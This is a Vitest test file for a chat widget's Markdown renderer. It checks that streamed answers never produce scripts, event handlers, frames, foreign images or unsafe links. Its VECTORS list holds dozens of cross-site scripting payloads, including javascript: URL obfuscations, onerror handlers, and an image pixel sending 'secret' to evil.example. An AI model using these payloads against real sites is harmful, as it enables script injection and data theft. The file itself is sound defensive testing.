import { render } from 'preact';
import { afterEach, expect, test } from 'vitest';
import { en } from '../../../widget/element/strings/en.ts';
import { Markdown } from '../../../widget/element/view/markdown.tsx';

// Texts of our own that try to get a script, a foreign image, a style or a frame out of an answer. Each is drawn whole
// and at every length on the way there, because an answer is drawn while it arrives.

const SCRIPTS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'vbscript:x',
  'data:text/html,<script>x</script>',
  'blob:https://a.b/c',
  'file:///etc/passwd',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '\u0001javascript:alert(1)',
  'about:blank',
  'view-source:https://a.b',
  'filesystem:https://a.b/x',
  'ws://a.b',
];

const VECTORS = [
  ...SCRIPTS.map((href) => `[click](${href})`),
  ...SCRIPTS.map((href) => `[click](<${href}> "t")`),
  ...SCRIPTS.slice(0, 6).map((href) => `[click][ref]\n\n[ref]: ${href}`),
  ...SCRIPTS.slice(0, 6).map((href) => `![shown](${href})`),
  ...SCRIPTS.slice(0, 3).map((href) => `<${href.trim()}>`),
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>*{display:none}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<p style="position:fixed">x</p>',
  '<form action="https://evil.example"><input name=a></form>',
  '<!-- --><b onclick=alert(1)>x</b><!-- -->',
  '<![CDATA[<script>x</script>]]>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<details open ontoggle=alert(1)>',
  '<base href="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '![track](https://evil.example/pixel.png?q=secret)',
  '![track][img]\n\n[img]: https://evil.example/pixel.png',
  '![t](//evil.example/p.png)',
  '![t](https://images.example.evil.example/p.png)',
  '![t](http://images.example/p.png)',
  '[![t](https://evil.example/a.png)](javascript:alert(1))',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '| [x](javascript:alert(1)) | ![y](https://evil.example/y) |\n|---|---|',
  '- [ ] <script>x</script>\n- [x] [a](javascript:alert(1))',
  '> > > <svg><script>alert(1)</script></svg>',
  '```html\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '# <img src=x onerror=alert(1)>',
  '**<b onmouseover=alert(1)>x</b>**',
  '~~[x](javascript:alert(1))~~',
  '[a](javascript:alert(1)\n"b")',
  '[a]( https://ok.example "onmouseover=alert(1)")',
  '[a](https://ok.example/" onmouseover="alert(1))',
  'https://ok.example/"onmouseover="alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\ufffc1\ufffc<script>x</script>\ufffc99,1\ufffc',
  '[x\ufffc1\ufffc](java\ufffc1\ufffcscript:alert(1))',
  '[x](mailto:a@b.c?subject=s&body=send%20me%20your%20key)',
];

const ELEMENTS = new Set(
  'DIV P H3 H4 H5 H6 UL OL LI INPUT BLOCKQUOTE PRE CODE TABLE THEAD TBODY TR TH TD A IMG STRONG EM DEL BR HR SPAN BUTTON SVG PATH RECT'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'class part dir href target rel src alt loading referrerpolicy type disabled checked aria-label aria-hidden title tabindex role start viewBox viewbox d x y width height rx'.split(
    ' ',
  ),
);

let root: HTMLElement;
afterEach(() => {
  render(null, root);
  root.remove();
});

function dangers(text: string, streaming: boolean): string[] {
  root?.remove();
  root = document.createElement('div');
  document.body.append(root);
  render(
    <Markdown text={text} streaming={streaming} sources={[]} imageDomains={['images.example']} strings={en} />,
    root,
  );
  return [...root.querySelectorAll('*')].flatMap((node) => {
    const found: string[] = [];
    if (!ELEMENTS.has(node.tagName.toUpperCase())) found.push(`<${node.tagName}>`);
    for (const { name, value } of node.attributes) {
      if (!ATTRIBUTES.has(name)) found.push(`${name}=${value}`);
      // Our own name for the page's style sheets, nothing of the text's.
      if (name === 'part' && value !== 'citations') found.push(`${name}=${value}`);
      if (name === 'href' && !/^(?:https?:\/\/|mailto:[^?]*$|tel:)/.test(value)) found.push(`${name}=${value}`);
      if (name === 'src' && !value.startsWith('https://images.example/')) found.push(`${name}=${value}`);
    }
    return found;
  });
}

test.each(VECTORS)('draws nothing dangerous at any length of %j', (vector) => {
  for (let length = 1; length <= vector.length; length += 1) {
    expect(dangers(vector.slice(0, length), true), vector.slice(0, length)).toEqual([]);
  }
  expect(dangers(`Before.\n\n${vector}\n\nAfter.`, false)).toEqual([]);
});

test('has enough vectors to mean something', () => {
  expect(VECTORS.length).toBeGreaterThanOrEqual(60);
});

test('shows an image of an allowed host and the true host of a disguised link', () => {
  expect(dangers('![chart](https://images.example/a.png) [www.bank.example](https://evil.example/x)', false)).toEqual(
    [],
  );
  expect(root.querySelector('img')?.getAttribute('src')).toBe('https://images.example/a.png');
  const link = root.querySelector('a');
  expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow ugc');
  expect(link?.getAttribute('target')).toBe('_blank');
  expect(root.textContent).toContain('(evil.example)');
});
